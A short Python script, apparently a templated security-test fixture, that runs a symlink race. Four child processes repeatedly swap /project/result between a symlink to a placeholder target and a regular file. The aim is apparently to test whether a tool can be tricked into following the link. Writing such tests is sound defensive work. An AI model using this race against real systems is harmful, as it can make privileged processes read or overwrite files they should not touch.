import os
from attack import children
open("result", "w").write("fine")
def swap(_):
    os.setsid()
    while True:
        try:
            os.symlink("@FILE@", "/tmp/link"); os.rename("/tmp/link", "/project/result")
            open("/tmp/file", "w").write("fine"); os.rename("/tmp/file", "/project/result")
        except OSError: pass
children(4, swap)
